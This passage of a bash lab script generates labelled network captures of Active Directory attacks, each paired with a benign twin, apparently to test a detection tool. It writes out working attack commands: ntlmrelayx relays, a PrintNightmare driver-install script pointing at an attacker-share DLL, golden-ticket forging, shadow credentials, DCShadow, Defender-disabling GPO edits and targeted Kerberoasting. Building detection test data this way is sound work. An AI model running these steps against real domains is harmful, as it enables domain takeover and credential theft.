    "A workstation locating its DC as Windows does: CLDAP pings without a user, and one naming the logged-on user, a few times."
  on ws 60 -- "$VPY" "$WORK/tools/cldap_ping.py" "$DC_IP" "$DNSDOM"
  on ws 60 -- "$VPY" "$WORK/tools/cldap_ping.py" "$DC_IP" "$DNSDOM" alice
  on ws 60 -- "$VPY" "$WORK/tools/cldap_ping.py" "$DC_IP" "$DNSDOM"
  expect 'cldap && ldap.protocolOp==3' 3
  cap_end
}

SCEN_LIST="$SCEN_LIST ntlm_relay_drop_mic"

# ntlmrelayx in the attacker's namespace for the length of one scenario (by its PID).
relay_start() {
  # ntlmrelayx serves until its standard input ends: give it one that stays open.
  ( cd "$WORK/tmp" && sleep 50 | ip netns exec "$NS_ATK" "${CL_ENV[@]}" timeout -k 5 60 "$VPY" "$IMP/ntlmrelayx.py" "$@" \
      >> "$OUT/.meta/$CUR/output.log" 2>&1 ) &
  RELAY_PID=$!
  printf '\n$ [atk %s] (background) ntlmrelayx.py %s\n' "$ATK_IP" "$*" >> "$OUT/.meta/$CUR/output.log"
  sleep 6
}
relay_stop() { sleep 4; pkill -P "$RELAY_PID" 2>/dev/null; kill "$RELAY_PID" 2>/dev/null; wait "$RELAY_PID" 2>/dev/null; }

sc_ntlm_relay_drop_mic() {
  cap_begin ntlm_relay_drop_mic attack T1557.001 "$ATK_IP" "alice (relayed), $DCFQDN" \
    "NTLM relay with the MIC dropped (CVE-2019-1040, ntlmrelayx --remove-mic): the workstation user alice opens a share on the attacker's host (a UNC path it was lured to); impacket ntlmrelayx relays her NTLM authentication to the DC's SMB, after removing the AUTHENTICATE message's MIC and version and clearing its signing and key-exchange flags."
  relay_start -t "smb://$DC_IP" -smb2support --remove-mic --no-http-server --no-wcf-server --no-raw-server --no-rpc-server --no-winrm-server --no-mssql-server --no-rdp-server -c whoami
  on ws 30 -- smbclient -s "$WORK/client.conf" -U "$DOMAIN\\alice%$ALICE_PASS" --use-kerberos=disabled "//$ATK_IP/share" -c ls
  relay_stop
  expect "ntlmssp.messagetype==3 && ip.src==$ATK_IP"
  cap_end
}

SCEN_LIST="$SCEN_LIST ntlm_relay_dc_account"

sc_ntlm_relay_dc_account() {
  cap_begin ntlm_relay_dc_account attack T1557.001 "$ATK_IP" "${DCNAME^^}\$ (relayed), $DCFQDN" \
    "NTLM relay of the DC's own machine account: the DC is made to authenticate to the attacker's host (as printer-bug, PetitPotam or DFSCoerce make a Windows DC do; here the DC's smbclient with its machine account, -P), and impacket ntlmrelayx relays ${DCNAME^^}\$'s NTLM authentication back to the DC's SMB."
  relay_start -t "smb://$DC_IP" -smb2support --no-http-server --no-wcf-server --no-raw-server --no-rpc-server --no-winrm-server --no-mssql-server --no-rdp-server -c whoami
  printf '\n$ [dc %s] smbclient -P //%s/share -c ls\n' "$DC_IP" "$ATK_IP" >> "$OUT/.meta/$CUR/output.log"
  dcns timeout -k 5 30 smbclient -s "$PREFIX/etc/smb.conf" -P --use-kerberos=disabled "//$ATK_IP/share" -c ls \
    >> "$OUT/.meta/$CUR/output.log" 2>&1 < /dev/null
  relay_stop
  expect "ntlmssp.messagetype==3 && ip.src==$ATK_IP && ntlmssp.auth.username==\"${DCNAME^^}\$\""
  cap_end
}

SCEN_LIST="$SCEN_LIST dnshostname_spoofing benign_computer_rename"

sc_dnshostname_spoofing() {
  cap_begin dnshostname_spoofing attack T1068 "$ATK_IP" "EVILPC\$ (dNSHostName set to $DCFQDN)" \
    "Certifried (CVE-2022-26923) preparation: with a stolen delegated-admin account ($DA_USER), a computer account is added (impacket addcomputer over SAM-R) and its dNSHostName set to the DC's ($DCFQDN) after its SPNs are cleared (ldapmodify over a simple bind), so a certificate requested for it would name the DC."
  # Samba enforces no machine account quota for plain users over SAM-R: the phished account
  # here is the delegated admin da_admin (creator and writer alike, as in Certifried).
  on atk 60 -- "$VPY" "$IMP/addcomputer.py" -method SAMR -computer-name 'EVILPC$' -computer-pass 'Evil!Pc2024' -dc-ip "$DC_IP" "$DNSDOM/$DA_USER:$DA_PASS"
  printf 'dn: CN=EVILPC,CN=Computers,%s\nchangetype: modify\nreplace: servicePrincipalName\n-\nreplace: dNSHostName\ndNSHostName: %s\n' "$BASEDN" "$DCFQDN" > "$WORK/tmp/certifried.ldif"
  on atk -- ldapmodify -x -H "ldap://$DC_IP" -D "$DA_USER@$DNSDOM" -w "$DA_PASS" -f "$WORK/tmp/certifried.ldif"
  expect 'ldap.protocolOp==6'
  cap_end
}

sc_benign_computer_rename() {
  cap_begin benign_computer_rename benign none "$WS_IP" "WS02\$ (dNSHostName)" \
    "An admin correcting a computer's DNS name: WS02's dNSHostName set to its own name in the domain (ldapmodify as da_admin)."
  printf 'dn: CN=WS02,CN=Computers,%s\nchangetype: modify\nreplace: dNSHostName\ndNSHostName: ws02.%s\n' "$BASEDN" "$DNSDOM" > "$WORK/tmp/ws02.ldif"
  on ws -- ldapmodify -x -H "ldap://$DC_IP" -D "$DA_USER@$DNSDOM" -w "$DA_PASS" -f "$WORK/tmp/ws02.ldif"
  expect 'ldap.protocolOp==6'
  cap_end
}

SCEN_LIST="$SCEN_LIST adfs_dkm_read benign_adfs_service_read"

# What AD FS setup leaves in the directory (before any recording): its Distributed Key
# Manager container with a contact object whose thumbnailPhoto holds the DKM master key.
# The AD FS service account here is svc_web (the lab's IIS app pool account).
adfs_dkm_setup() {
  local base="CN=ADFS,CN=Microsoft,CN=Program Data,$BASEDN" key
  key=$(head -c 32 /dev/urandom | base64)
  printf 'dn: %s\nobjectClass: container\n\ndn: CN=7ae9ce44-0000-4d6a-9a52-3c2f1a0e2b71,%s\nobjectClass: container\n\ndn: CN=9f5c2b3e-61a4-4b0e-8f3d-2c1d0b9a8e77,CN=7ae9ce44-0000-4d6a-9a52-3c2f1a0e2b71,%s\nobjectClass: contact\nthumbnailPhoto:: %s\n' \
    "$base" "$base" "$base" "$key" > "$WORK/tmp/adfs.ldif"
  ip netns exec "$NS_WS" "${CL_ENV[@]}" ldapadd -c -x -H "ldap://$DC_IP" -D "$DA_USER@$DNSDOM" -w "$DA_PASS" -f "$WORK/tmp/adfs.ldif" >/dev/null 2>&1 || true
}

sc_adfs_dkm_read() {
  adfs_dkm_setup
  cap_begin adfs_dkm_read attack T1552.004 "$ATK_IP" "CN=ADFS,CN=Microsoft,CN=Program Data,$BASEDN (DKM key)" \
    "AD FS DKM master key read over LDAP (ADFSDump's query) with a phished account ($RECON_USER): the contacts under the AD FS container with a thumbnailPhoto, which holds the key that decrypts the token-signing certificate (Golden SAML)."
  on atk -- ldapsearch -LLL -x -H "ldap://$DC_IP" -D "$RECON_USER@$DNSDOM" -w "$RECON_PASS" -b "CN=ADFS,CN=Microsoft,CN=Program Data,$BASEDN" \
    '(&(thumbnailphoto=*)(objectClass=contact)(!(cn=CryptoPolicy)))' thumbnailPhoto
  expect 'ldap.protocolOp==3'
  expect 'ldap.protocolOp==4'
  cap_end
}

sc_benign_adfs_service_read() {
  adfs_dkm_setup
  cap_begin benign_adfs_service_read benign none "$WS_IP" "CN=ADFS,CN=Microsoft,CN=Program Data,$BASEDN" \
    "The AD FS service account (svc_web here) reading its own DKM key at start-up, as AD FS does."
  on ws -- ldapsearch -LLL -x -H "ldap://$DC_IP" -D "svc_web@$DNSDOM" -w "$WEB_PASS" -b "CN=ADFS,CN=Microsoft,CN=Program Data,$BASEDN" \
    '(&(thumbnailphoto=*)(objectClass=contact)(!(cn=CryptoPolicy)))' thumbnailPhoto
  expect 'ldap.protocolOp==4'
  cap_end
}

SCEN_LIST="$SCEN_LIST shadow_credentials"

sc_shadow_credentials() {
  cap_begin shadow_credentials attack T1556 "$ATK_IP" "alice (msDS-KeyCredentialLink)" \
    "Shadow credentials (pyWhisker / Whisker / certipy shadow): with a stolen delegated-admin account ($DA_USER), a key credential (a DN-binary value holding a public key) is added to alice's msDS-KeyCredentialLink over LDAP, so that PKINIT with the matching private key would yield alice's TGT and NT hash. Samba's schema (2012 R2) has no such attribute and refuses the write; Windows DCs from 2016 accept it."
  local dn="CN=Alice User,CN=Users,$BASEDN" blob
  blob=$(head -c 270 /dev/urandom | od -An -tx1 | tr -d ' \n' | tr a-f A-F)
  printf 'dn: %s\nchangetype: modify\nadd: msDS-KeyCredentialLink\nmsDS-KeyCredentialLink: B:%d:%s:%s\n' "$dn" "${#blob}" "$blob" "$dn" > "$WORK/tmp/shadow.ldif"
  on atk -- ldapmodify -x -H "ldap://$DC_IP" -D "$DA_USER@$DNSDOM" -w "$DA_PASS" -f "$WORK/tmp/shadow.ldif"
  expect 'ldap.protocolOp==6'
  cap_end
}

SCEN_LIST="$SCEN_LIST dcshadow_registration"

sc_dcshadow_registration() {
  cap_begin dcshadow_registration attack T1207 "$ATK_IP" "WS01 (registered as a DC)" \
    "DCShadow registration, the first half of mimikatz lsadump::dcshadow, in the clear: with a Domain Admin's credentials ($DA_USER), a server object for the workstation WS01 is added under the site's Servers container and the replication SPNs (E3514235-4B06-11D1-AB04-00C04FC2DCD2/… and GC/…) are added to its computer account, over LDAP simple binds (ldapadd, ldapmodify); then both are removed again, as mimikatz does."
  local site="CN=Default-First-Site-Name,CN=Sites,CN=Configuration,$BASEDN" guid
  guid=$(cat /proc/sys/kernel/random/uuid)
  printf 'dn: CN=WS01,CN=Servers,%s\nobjectClass: server\ndNSHostName: ws01.%s\nserverReference: CN=WS01,CN=Computers,%s\n' "$site" "$DNSDOM" "$BASEDN" > "$WORK/tmp/dcshadow-add.ldif"
  printf 'dn: CN=WS01,CN=Computers,%s\nchangetype: modify\nadd: servicePrincipalName\nservicePrincipalName: E3514235-4B06-11D1-AB04-00C04FC2DCD2/%s/%s\nservicePrincipalName: GC/ws01.%s/%s\n' \
    "$BASEDN" "$guid" "$DNSDOM" "$DNSDOM" "$DNSDOM" > "$WORK/tmp/dcshadow-spn.ldif"
  local L=(-x -H "ldap://$DC_IP" -D "$DA_USER@$DNSDOM" -w "$DA_PASS")
  on atk -- ldapadd "${L[@]}" -f "$WORK/tmp/dcshadow-add.ldif"
  on atk -- ldapmodify "${L[@]}" -f "$WORK/tmp/dcshadow-spn.ldif"
  on atk -- ldapdelete "${L[@]}" "CN=WS01,CN=Servers,$site"
  sed -e 's/^add: servicePrincipalName/delete: servicePrincipalName/' "$WORK/tmp/dcshadow-spn.ldif" > "$WORK/tmp/dcshadow-unspn.ldif"
  on atk -- ldapmodify "${L[@]}" -f "$WORK/tmp/dcshadow-unspn.ldif"
  expect 'ldap.protocolOp==8'
  expect 'ldap.protocolOp==6' 2
  cap_end
}

SCEN_LIST="$SCEN_LIST printnightmare"

printnightmare_tool() {
  mkdir -p "$WORK/tools"
  cat > "$WORK/tools/add_driver.py" <<'PYEOF'
# PrintNightmare's call (CVE-2021-1675 / CVE-2021-34527, as cube0x0's and impacket-based
# exploits send it): RpcAddPrinterDriverEx over \pipe\spoolss with a DRIVER_INFO_2 whose
# configuration file is a DLL on the attacker's share, and the flags that skip the checks
# (APD_COPY_ALL_FILES | 0x10 | 0x8000).
# usage: add_driver.py DOMAIN USER PASSWORD HOST DLL_UNC
import sys
from impacket.dcerpc.v5 import transport, rprn
dom, user, pw, host, dll = sys.argv[1:6]
t = transport.DCERPCTransportFactory(r'ncacn_np:%s[\PIPE\spoolss]' % host)
t.set_credentials(user, pw, dom, '', '')
dce = t.get_dce_rpc()
dce.connect()
dce.bind(rprn.MSRPC_UUID_RPRN)
container = rprn.DRIVER_CONTAINER()
container['Level'] = 2
container['DriverInfo']['tag'] = 2
info = container['DriverInfo']['Level2']
info['cVersion'] = 3
info['pName'] = 'Orthrus Lab Driver\x00'
info['pEnvironment'] = 'Windows x64\x00'
info['pDriverPath'] = 'C:\\Windows\\System32\\DriverStore\\FileRepository\\ntprint.inf_amd64\\Amd64\\UNIDRV.DLL\x00'
info['pDataFile'] = dll + '\x00'
info['pConfigFile'] = 'C:\\Windows\\System32\\winhttp.dll\x00'
try:
    rprn.hRpcAddPrinterDriverEx(dce, pName='\\\\%s\x00' % host, pDriverContainer=container,
                                dwFileCopyFlags=rprn.APD_COPY_ALL_FILES | 0x10 | 0x8000)
    print('driver added')
except Exception as e:
    print('refused:', e)
PYEOF
}

sc_printnightmare() {
  printnightmare_tool
  cap_begin printnightmare attack T1210 "$ATK_IP" "$DCFQDN (Print Spooler driver)" \
    "PrintNightmare (CVE-2021-34527): with a phished account ($RECON_USER), RpcAddPrinterDriverEx over \\\\pipe\\\\spoolss asking the DC's spooler to install a driver whose data file is a DLL on the attacker's share (\\\\\\\\$ATK_IP\\\\share\\\\evil.dll)."
  on atk 60 -- "$VPY" "$WORK/tools/add_driver.py" "$DOMAIN" "$RECON_USER" "$RECON_PASS" "$DC_IP" "\\\\$ATK_IP\\share\\evil.dll"
  expect 'spoolss.opnum==89'
  cap_end
}

SCEN_LIST="$SCEN_LIST gpo_defender_disabled benign_gpo_edit"

# A Registry.pol (PReg) with the given settings: KEY|VALUE|DWORD ... (what the Group Policy
# editor, SharpGPOAbuse and pyGPOAbuse write into a GPO's Machine folder).
preg_tool() {
  mkdir -p "$WORK/tools"
  cat > "$WORK/tools/preg.py" <<'PYEOF'
# usage: preg.py OUT 'KEY|VALUE|DWORD' ...
import struct, sys
def w(s): return (s + '\0').encode('utf-16-le')
out = b'PReg' + struct.pack('<I', 1)
for item in sys.argv[2:]:
    key, value, data = item.split('|')
    blob = struct.pack('<I', int(data))
    out += '['.encode('utf-16-le') + w(key) + ';'.encode('utf-16-le') + w(value) + ';'.encode('utf-16-le')
    out += struct.pack('<I', 4) + ';'.encode('utf-16-le') + struct.pack('<I', len(blob)) + ';'.encode('utf-16-le')
    out += blob + ']'.encode('utf-16-le')
open(sys.argv[1], 'wb').write(out)
PYEOF
}

# The Default Domain Policy without a Registry.pol (DC side, before a recording): each edit
# below writes a new one.
reset_gpo_pol() {
  rm -f "$PREFIX/state/sysvol/$DNSDOM/Policies/{31B2F340-016D-11D2-945F-00C04FB984F9}/MACHINE/Registry.pol"
}

# Writes a Registry.pol into the Default Domain Policy's Machine folder over SMB and bumps
# the GPO's versionNumber over LDAP, as a GPO edit does.
gpo_edit() {   # gpo_edit HOST USER PASS POLFILE
  local host=$1 user=$2 pass=$3 pol=$4 gpo="{31B2F340-016D-11D2-945F-00C04FB984F9}"
  on "$host" 60 -- smbclient -s "$WORK/client.conf" -U "$DOMAIN\\$user%$pass" --use-kerberos=disabled "//$DC_IP/sysvol" \
    -c "cd $DNSDOM/Policies/$gpo/MACHINE; put $pol Registry.pol"
  printf 'dn: CN=%s,CN=Policies,CN=System,%s\nchangetype: modify\nreplace: versionNumber\nversionNumber: %s\n' "$gpo" "$BASEDN" "$((RANDOM + 10))" > "$WORK/tmp/gpo-version.ldif"
  on "$host" -- ldapmodify -x -H "ldap://$DC_IP" -D "$user@$DNSDOM" -w "$pass" -f "$WORK/tmp/gpo-version.ldif"
}

sc_gpo_defender_disabled() {
  preg_tool
  "$PY" "$WORK/tools/preg.py" "$WORK/tmp/evil.pol" \
    'Software\Policies\Microsoft\Windows Defender|DisableAntiSpyware|1' \
    'Software\Policies\Microsoft\Windows Defender\Real-Time Protection|DisableRealtimeMonitoring|1'
  reset_gpo_pol
  cap_begin gpo_defender_disabled attack T1562.001 "$ATK_IP" "Default Domain Policy (Registry.pol)" \
    "Group Policy tampering: with a Domain Admin's credentials ($DA_USER), the Default Domain Policy's Machine\\\\Registry.pol is replaced over SMB with one that turns Microsoft Defender off (DisableAntiSpyware=1, DisableRealtimeMonitoring=1) and the GPO's versionNumber is raised over LDAP, so every computer applies it."
  gpo_edit atk "$DA_USER" "$DA_PASS" "$WORK/tmp/evil.pol"
  expect 'smb2.filename contains "Registry.pol"'
  cap_end
}

sc_benign_gpo_edit() {
  preg_tool
  "$PY" "$WORK/tools/preg.py" "$WORK/tmp/good.pol" \
    'Software\Policies\Microsoft\Windows\WindowsUpdate\AU|NoAutoRebootWithLoggedOnUsers|1' \
    'Software\Policies\Microsoft\Windows Defender|PUAProtection|1'
  reset_gpo_pol
  cap_begin benign_gpo_edit benign none "$WS_IP" "Default Domain Policy (Registry.pol)" \
    "An admin's GPO edit from the workstation: Windows Update and Defender PUA protection settings written into the Default Domain Policy's Registry.pol, the version raised."
  gpo_edit ws "$DA_USER" "$DA_PASS" "$WORK/tmp/good.pol"
  expect 'smb2.filename contains "Registry.pol"'
  cap_end
}

SCEN_LIST="$SCEN_LIST golden_ticket_lifetime"

# The KDC's "maximum lifetime for user ticket" (Samba: kdc:user ticket lifetime, in whole
# hours; Windows: the Default Domain Policy's MaxTicketAge). Samba reads it when it starts.
kdc_user_ticket_lifetime() {   # kdc_user_ticket_lifetime HOURS
  local conf="$PREFIX/etc/smb.conf"
  sed -i '/kdc:user ticket lifetime/d' "$conf"
  sed -i "s/^\[global\]$/[global]\n\tkdc:user ticket lifetime = $1/" "$conf"
  dc_restart
}
dc_restart() { kill_tracked samba TERM; dc_start; }

# A golden ticket outlives the KDC's user-ticket lifetime: with the policy at one hour (the
# shortest Samba takes), a TGT forged with impacket ticketer (ten years, its default) is used
# for a service ticket, and again 67 minutes later; the KDC honours it both times. Beside it
# the workstation's users do what honest clients do across the same hour: alice's renewable
# TGT is renewed at 40 minutes and the renewed one used at 67; carol takes an impacket TGT,
# which benign_expired_tgt presents after it expired.
sc_golden_ticket_lifetime() {
  krbtgt_keys
  local sid forged=Administrator rid=500; sid=$(cat "$WORK/domain.sid")
  kdc_user_ticket_lifetime 1
  cap_begin golden_ticket_lifetime attack T1558.001 "$ATK_IP" "$forged (forged TGT, 10-year lifetime), cifs/$DCFQDN, ldap/$DCFQDN" \
    "Golden ticket used past the maximum user-ticket lifetime: with the KDC's policy at 1 hour, a TGT for $forged forged with the krbtgt AES key by impacket ticketer (lifetime ten years, its default) is presented in a TGS-REQ and again 67 minutes later, both answered. The workstation meanwhile renews alice's TGT at 40 minutes and uses the renewed one at 67; carol's impacket TGT, taken at the start, is presented after it expired in benign_expired_tgt."
  workstation_logons
  EXTRA_ENV=$(cc ws-life-alice) on_in "$ALICE_PASS" ws 30 -- kinit -r 3h "alice@$REALM"
  EXTRA_ENV=$(cc ws-life-alice) on ws -- kvno "cifs/$DCFQDN@$REALM"
  on ws -- "$VPY" "$IMP/getTGT.py" -dc-ip "$DC_IP" "$DNSDOM/carol:$CAROL_PASS"
  cp -f "$WORK/tmp/carol.ccache" "$WORK/cc/ws-life-carol" 2>/dev/null
  on atk -- "$VPY" "$IMP/ticketer.py" -aesKey "$(cat "$WORK/krbtgt.aes")" -domain-sid "$sid" -domain "$DNSDOM" -user-id "$rid" -groups 512,513,518,519,520 "$forged"
  cp -f "$WORK/tmp/$forged.ccache" "$WORK/cc/atk-golden-life" 2>/dev/null
  on atk -- "$VPY" "$WORK/tools/ccache_kvno.py" "$WORK/cc/atk-golden-life" "$(cat "$WORK/krbtgt.kvno")"
  EXTRA_ENV=$(cc atk-golden-life) on atk -- kvno "cifs/$DCFQDN@$REALM"
  sleep 2400
  EXTRA_ENV=$(cc ws-life-alice) on ws -- kinit -R
  sleep 1620
  EXTRA_ENV=$(cc ws-life-alice) on ws -- kvno "ldap/$DCFQDN@$REALM"
  EXTRA_ENV=$(cc atk-golden-life) on atk -- kvno "ldap/$DCFQDN@$REALM"
  expect "kerberos.msg_type==13 && ip.dst==$ATK_IP" 2
  cap_end
  kdc_user_ticket_lifetime 10
}

SCEN_LIST="$SCEN_LIST benign_expired_tgt"

# Right after golden_ticket_lifetime: carol's impacket TGT from its start (one-hour policy,
# now expired) presented for a service ticket; the KDC refuses it. Read after that recording,
# a late use the KDC refused.
sc_benign_expired_tgt() {
  cap_begin benign_expired_tgt benign none "$WS_IP" "carol" \
    "A TGT presented after it expired: carol's impacket TGT, issued at the start of golden_ticket_lifetime under a one-hour policy, presented for ldap/$DCFQDN more than an hour later (impacket getST with the saved ticket); the KDC refuses it (KRB_AP_ERR_TKT_EXPIRED)."
  EXTRA_ENV="KRB5CCNAME=$WORK/cc/ws-life-carol" on ws -- "$VPY" "$IMP/getST.py" -k -no-pass -dc-ip "$DC_IP" -spn "ldap/$DCFQDN" "$DNSDOM/carol"
  expect "kerberos.error_code==32 && ip.dst==$WS_IP"
  cap_end
}

SCEN_LIST="$SCEN_LIST overpass_windows_workstation"

WS02_PASS='Ws02-Machine-Pw!7'

# Overpass-the-hash from a computer the directory knows as Windows. The lab has no Windows
# host: WS02's directory entry is given what a joining Windows 10 computer writes
# (operatingSystem, operatingSystemVersion, dNSHostName) and a known machine password, and
# WS02's machine account logs on from the attacker's address as a joined computer does at
# boot — which is how name resolution ties that address to WS02. Then impacket's getTGT asks
# for alice's TGT with her NT hash alone. The same tool from the workstation (a computer the
# directory does not call Windows) is the benign twin: Unix hosts have their own Kerberos.
# The directory is synced afterwards (sync_directory) for the recording's tests.
sc_overpass_windows_workstation() {
  local dn="CN=WS02,CN=Computers,$BASEDN"
  printf 'dn: %s\nchangetype: modify\nreplace: operatingSystem\noperatingSystem: Windows 10 Enterprise\n-\nreplace: operatingSystemVersion\noperatingSystemVersion: 10.0 (19045)\n-\nreplace: dNSHostName\ndNSHostName: ws02.%s\n' "$dn" "$DNSDOM" \
    | dcns ldbmodify -H "$PREFIX/private/sam.ldb" >/dev/null || die "ldbmodify WS02 failed"
  st user setpassword 'WS02$' --newpassword="$WS02_PASS" >/dev/null || die "WS02 password"
  cap_begin overpass_windows_workstation attack T1550.002 "$ATK_IP" "alice" \
    "Overpass-the-hash on a Windows-joined computer: WS02 (Windows 10 in the directory) logs its machine account on from $ATK_IP, then impacket getTGT asks for alice's TGT from there with her NT hash only (AS-REQ with RC4 alone, no canonicalize, till tomorrow, no address). The workstation $WS_IP, not a Windows computer in the directory, does the same for carol: no alert expected there."
  EXTRA_ENV=$(cc atk-ws02) on_in "$WS02_PASS" atk 30 -- kinit "WS02\$@$REALM"
  on atk 60 -- "$VPY" "$IMP/getTGT.py" "$DNSDOM/alice" -hashes ":$(nt_hash "$ALICE_PASS")" -dc-ip "$DC_IP"
  on ws 60 -- "$VPY" "$IMP/getTGT.py" "$DNSDOM/carol" -hashes ":$(nt_hash "$CAROL_PASS")" -dc-ip "$DC_IP"
  expect "kerberos.msg_type==11 && kerberos.CNameString==\"WS02\$\" && ip.dst==$ATK_IP"
  expect "kerberos.msg_type==10 && kerberos.CNameString==\"alice\" && kerberos.etype==23 && !kerberos.etype==18 && ip.src==$ATK_IP"
  expect "kerberos.msg_type==11 && kerberos.CNameString==\"carol\" && ip.dst==$WS_IP"
  cap_end
  sync_directory overpass_windows_workstation
}

# With ORTHRUS_BIN set: the directory as it is now, synced over LDAPS from the workstation into
# $OUT/NAME.snapshot.json (after cap_end: the sync is not part of the recording).
sync_directory() {   # sync_directory NAME
  [ -n "${ORTHRUS_BIN:-}" ] || return 0
  printf '%s\n' "$ADMIN_PASS" > "$WORK/tmp/admin.pw"
  rm -f "$OUT/$1.snapshot.json"
  ns $NS_WS "$ORTHRUS_BIN" directory sync --url "ldaps://$DC_IP" --insecure-skip-verify \
    --bind-dn "Administrator@$DNSDOM" --password-file "$WORK/tmp/admin.pw" \
    -o "$OUT/$1.snapshot.json" >> "$OUT/.meta/$1/output.log" 2>&1
  rm -f "$WORK/tmp/admin.pw"
}

SCEN_LIST="$SCEN_LIST ntlm_relay_exchange_account"

EXCH_PASS='Exch01-Machine-Pw!3'

# PrivExchange's relay (an Exchange server made to authenticate to the attacker, its machine
# account's NTLM relayed to the DC). The lab has no Exchange: EXCH01 is a computer account in
# the group Exchange setup creates (Exchange Servers), with a known machine password, whose
# "server" is the workstation's address: it logs its machine account on with Kerberos there
# and opens an NTLM session to the DC from there (its own logons: no alert). Then it
# authenticates to the attacker's host (as the push subscription makes Exchange do over HTTP;
# here SMB) and ntlmrelayx passes EXCH01$'s NTLM on to the DC's SMB.
sc_ntlm_relay_exchange_account() {
  st computer create EXCH01 >/dev/null 2>&1
  st user setpassword 'EXCH01$' --newpassword="$EXCH_PASS" >/dev/null || die "EXCH01 password"
  st group add "Exchange Servers" >/dev/null 2>&1
  st group addmembers "Exchange Servers" 'EXCH01$' >/dev/null 2>&1
  cap_begin ntlm_relay_exchange_account attack T1557.001 "$ATK_IP" "EXCH01\$ (relayed), $DCFQDN" \
    "NTLM relay of an Exchange server's machine account (PrivExchange's relay): EXCH01 (in Exchange Servers) logs its machine account on with Kerberos from $WS_IP and lists the DC's shares over NTLM from there; then it authenticates to the attacker's host and impacket ntlmrelayx relays EXCH01\$'s NTLM authentication to the DC's SMB."
  EXTRA_ENV=$(cc ws-exch01) on_in "$EXCH_PASS" ws 30 -- kinit "EXCH01\$@$REALM"
  on ws 30 -- smbclient -s "$WORK/client.conf" -U "$DOMAIN\\EXCH01\$%$EXCH_PASS" --use-kerberos=disabled -L "//$DC_IP"
  relay_start -t "smb://$DC_IP" -smb2support --no-http-server --no-wcf-server --no-raw-server --no-rpc-server --no-winrm-server --no-mssql-server --no-rdp-server -c whoami
  on ws 30 -- smbclient -s "$WORK/client.conf" -U "$DOMAIN\\EXCH01\$%$EXCH_PASS" --use-kerberos=disabled "//$ATK_IP/share" -c ls
  relay_stop
  expect "kerberos.msg_type==11 && ip.dst==$WS_IP && kerberos.CNameString==\"EXCH01\$\""
  expect "ntlmssp.messagetype==3 && ip.src==$WS_IP && ip.dst==$DC_IP && ntlmssp.auth.username==\"EXCH01\$\""
  expect "ntlmssp.messagetype==3 && ip.src==$ATK_IP && ntlmssp.auth.username==\"EXCH01\$\""
  cap_end
  sync_directory ntlm_relay_exchange_account
}

SCEN_LIST="$SCEN_LIST smb_admin_share_copy"

# A DC's C$ for one recording: Samba's AD DC has no administrative shares, so a read-only
# share named C$ over a folder of the DC's is defined (Windows serves the whole volume).
dc_admin_share() {   # dc_admin_share on|off
  local conf="$PREFIX/etc/smb.conf"
  sed -i '/^# orthrus-lab C\$ begin$/,/^# orthrus-lab C\$ end$/d' "$conf"
  if [ "$1" = on ]; then
    mkdir -p "$PREFIX/cshare/Windows/Temp"
    head -c 1500000 /dev/zero > "$PREFIX/cshare/Windows/Temp/backup.vhd"
    head -c 200000 /dev/zero > "$PREFIX/cshare/Windows/Temp/report.txt"
    printf '# orthrus-lab C$ begin\n[C$]\n\tpath = %s\n\tread only = yes\n# orthrus-lab C$ end\n' "$PREFIX/cshare" >> "$conf"
  fi
  dc_restart
}

sc_smb_admin_share_copy() {
  dc_admin_share on
  cap_begin smb_admin_share_copy attack T1048.003 "$ATK_IP" "$DCFQDN (C\$)" \
    "Bulk copy from a DC's administrative share: da_admin on the attacker's host copies a 1.5 MB file (Windows\\Temp\\backup.vhd) from C\$ with smbclient; the workstation's admin reads a 200 KB report from the same share. Samba's DC has no C\$: one is defined for this recording. The detection's default threshold is 50 MiB; its test lowers it to 1 MB for this recording."
  on atk 60 -- smbclient -s "$WORK/client.conf" -U "$DOMAIN\\$DA_USER%$DA_PASS" --use-kerberos=disabled "//$DC_IP/C\$" -c 'get Windows\Temp\backup.vhd /dev/null'
  on ws 60 -- smbclient -s "$WORK/client.conf" -U "$DOMAIN\\$DA_USER%$DA_PASS" --use-kerberos=disabled "//$DC_IP/C\$" -c 'get Windows\Temp\report.txt /dev/null'
  expect "smb2.cmd==8 && smb2.flags.response==0 && ip.src==$ATK_IP"
  expect "smb2.cmd==8 && smb2.flags.response==0 && ip.src==$WS_IP"
  cap_end
  dc_admin_share off
}

SCEN_LIST="$SCEN_LIST targeted_kerberoast benign_service_spn delegation_backdoor benign_delegation_toggle"

# An ACL path to an administrator, as BloodHound finds them (before any recording): bob may
# read and write da_admin's properties (GenericWrite). Samba 4.17 does not honour a
# WriteProperty limited to servicePrincipalName for this write; the generic right it does.
targeted_roast_setup() {
  local sid
  sid=$(st user show bob --attributes=objectSid | sed -n 's/^objectSid: //p')
  st dsacl set --objectdn="CN=$DA_USER,CN=Users,$BASEDN" \
    --sddl="(A;;RPWP;;;$sid)" >/dev/null
}

spn_ldif() {   # spn_ldif FILE DN add|delete SPN
  printf 'dn: %s\nchangetype: modify\n%s: servicePrincipalName\nservicePrincipalName: %s\n' "$2" "$3" "$4" > "$1"
}

sc_targeted_kerberoast() {
  targeted_roast_setup
  local dn="CN=$DA_USER,CN=Users,$BASEDN" spn="HTTP/stage.$DNSDOM"
  cap_begin targeted_kerberoast attack T1558.003 "$ATK_IP" "$DA_USER (SPN $spn added, its ticket asked, the SPN removed)" \
    "Targeted Kerberoasting: bob, who may write da_admin's properties (GenericWrite, an ACL path set up before the recording), adds the SPN $spn to da_admin with ldapmodify (simple bind), asks a service ticket for da_admin with impacket GetUserSPNs -request-user (RC4, to crack offline) and removes the SPN again."
  spn_ldif "$WORK/tmp/spn-add.ldif" "$dn" add "$spn"
  spn_ldif "$WORK/tmp/spn-del.ldif" "$dn" delete "$spn"
  on atk -- ldapmodify -x -H "ldap://$DC_IP" -D "bob@$DNSDOM" -w "$BOB_PASS" -f "$WORK/tmp/spn-add.ldif"
  on atk -- "$VPY" "$IMP/GetUserSPNs.py" "$DNSDOM/bob:$BOB_PASS" -dc-ip "$DC_IP" -request-user "$DA_USER" -outputfile "$WORK/tmp/targeted.hashes"
  on atk -- ldapmodify -x -H "ldap://$DC_IP" -D "bob@$DNSDOM" -w "$BOB_PASS" -f "$WORK/tmp/spn-del.ldif"
  expect 'ldap.protocolOp==6' 2
  expect 'kerberos.msg_type==13'
  cap_end
}

sc_benign_service_spn() {
  local dn="CN=svc_web,CN=Users,$BASEDN" spn="HTTP/reports.$DNSDOM"
  cap_begin benign_service_spn benign none "$WS_IP" "svc_web (SPN $spn)" \
    "An admin publishes a new web site under the existing service account: da_admin at the workstation adds the SPN $spn to svc_web (ldapmodify), then alice asks a service ticket for it (impacket getST), as her browser would."
